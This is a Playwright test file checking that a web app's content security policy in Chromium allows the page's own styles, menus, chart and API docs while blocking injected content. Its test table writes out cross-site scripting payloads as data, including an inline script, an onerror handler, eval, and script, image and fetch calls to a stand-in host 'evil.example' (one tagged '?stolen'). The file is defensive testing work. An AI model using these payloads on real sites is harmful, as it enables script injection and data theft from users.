import type { Browser } from 'playwright-core';
import { BrowserPerson } from '../support/browser-person.js';
import { launchChromium } from '../support/chromium.mjs';
import { postInvestment } from '../support/report-flow.js';
import { startTestServer, type TestServer } from '../support/test-server.js';

describe('the content security policy in Chromium', () => {
  let server: TestServer;
  let browser: Browser;
  let leader: BrowserPerson;
  beforeAll(async () => {
    [server, browser] = await Promise.all([startTestServer(), launchChromium()]);
    const [office, finance] = await Promise.all([server.as('office'), server.as('finance')]);
    await postInvestment({ office, finance }, 'PJ-007', '2024-01', '98765432.10');
    leader = await BrowserPerson.signIn(browser, server, 'leader');
  });
  afterAll(async () => {
    await browser.close();
    await server.close();
  });

  it('lets through what the page needs: styles, menus, the chart and its tooltip', async () => {
    await leader.open('');
    await leader.at('years-chart').locator('svg').first().hover();
    await leader.page.locator('.chart').getByText('2024').last().waitFor();
    await leader.at('user-menu').click();
    await leader.page.getByRole('menuitem', { name: '我的账号' }).waitFor();
    // Ant Design makes its styles as it draws.
    await leader.open('/ledger');
    await leader.page.locator('[data-testid^=open-entry-]').first().click();
    await leader.page.locator('.ant-drawer-section').first().waitFor();
    const isStyled = await leader.page.evaluate(
      'getComputedStyle(document.querySelector(".ant-drawer-section")).display === "flex"',
    );
    expect(isStyled).toBe(true);
    expect(leader.complaints).toEqual([]);
  });

  it.each([
    [
      'an inline script',
      'script-src-elem',
      'const s = document.createElement("script"); s.textContent = "window.hit = 1"; document.body.append(s)',
    ],
    [
      'a script of another site',
      'script-src-elem',
      'const s = document.createElement("script"); s.src = "https://evil.example/x.js"; document.body.append(s)',
    ],
    [
      'a handler in HTML',
      'script-src-attr',
      'document.body.insertAdjacentHTML("beforeend", "<img src=x: onerror=\'window.hit = 1\'>")',
    ],
    ['eval', 'script-src', 'try { (0, eval)("window.hit = 1") } catch {}'],
    [
      'a style without the nonce',
      'style-src-elem',
      'document.head.insertAdjacentHTML("beforeend", "<style>body { display: none }</style>")',
    ],
    ['a picture of another site', 'img-src', 'new Image().src = "https://evil.example/?stolen"'],
    [
      'a request to another site',
      'connect-src',
      'void fetch("https://evil.example/").catch(() => 0)',
    ],
    [
      'another base',
      'base-uri',
      'const b = document.createElement("base"); b.href = "https://evil.example/"; document.head.append(b)',
    ],
  ])('blocks %s', async (_, directive, attack) => {
    const victim = await BrowserPerson.signIn(browser, server, 'leader');
    await victim.page.evaluate(
      // Later, as code of the page: while it evaluates, the debugger may do what the policy forbids.
      `new Promise((done) => { addEventListener('securitypolicyviolation', () => setTimeout(done, 100)); setTimeout(() => { ${attack} }) })`,
    );
    expect(victim.complaints.join('\n')).toContain(`${directive} blocked`);
    expect(await victim.page.evaluate('window.hit')).toBeUndefined();
    await victim.page.context().close();
  });

  it('lets the readable documentation of the api work', async () => {
    const reader = await BrowserPerson.signIn(browser, server, 'leader');
    await reader.page.goto(`${server.baseUrl}/api/docs`);
    await reader.page.locator('.opblock-summary').first().click();
    await reader.page.locator('.opblock-body').first().waitFor();
    expect(reader.complaints).toEqual([]);
    await reader.page.context().close();
  });
});
